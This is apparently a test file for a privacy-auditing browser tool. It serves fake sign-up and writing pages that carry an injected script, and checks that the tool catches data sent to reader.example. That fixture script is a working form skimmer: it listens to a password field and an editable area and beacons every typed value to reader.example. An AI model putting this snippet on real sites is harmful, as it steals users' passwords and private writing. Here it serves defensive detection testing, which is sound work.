import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { EgressGuard } from "../egress/guard.ts";
import { startTestTargets, type TestTargets } from "../testing/index.ts";
import { testSettings } from "../testing/settings.ts";
import { document, site, takes } from "../testing/truth/routes.ts";
import { runPass } from "./browser/pass.ts";

const sends = (value: string) =>
  `<script>document.getElementById("f").addEventListener("input",(e)=>navigator.sendBeacon("https://reader.example/k","v="+encodeURIComponent(${value})))</script>`;

let targets: TestTargets;
let folder: string;

beforeAll(async () => {
  targets = await startTestTargets([
    {
      hosts: ["www.secret.example"],
      https: site({
        "/": document(
          "en",
          "Sign up",
          `<p>Choose one</p><input type="password" id="f">${sends("e.target.value")}`,
        ),
      }),
    },
    {
      hosts: ["www.letter.example"],
      https: site({
        "/": document(
          "en",
          "Write",
          `<div contenteditable id="f">Dear</div>${sends("e.target.textContent")}`,
        ),
      }),
    },
    ...takes("reader.example"),
  ]);
  folder = await mkdtemp(join(tmpdir(), "candor-typed-"));
});
afterAll(async () => {
  await targets.close();
  await rm(folder, { recursive: true, force: true });
});

it.each([
  ["a field for a password", "www.secret.example", "password"],
  ["an area that is written in", "www.letter.example", "word"],
])("types into %s, and finds it where it is sent", async (_, host, typed) => {
  const guard = new EgressGuard({ hostMap: targets.hostMap });
  const settings = await testSettings(targets.ca);
  const { facts } = await runPass({ pass: "base", url: `https://${host}/`, guard, folder, settings });
  const sent = facts?.requests.filter((request) => request.host === "reader.example") ?? [];
  expect(sent.flatMap(({ identifiers }) => identifiers)).toContainEqual(expect.objectContaining({ typed }));
  expect(sent.map(({ body }) => body).join(" ")).not.toContain("vexmoral");
  expect(facts?.typing?.map(({ fields }) => fields)).toEqual([1]);
});
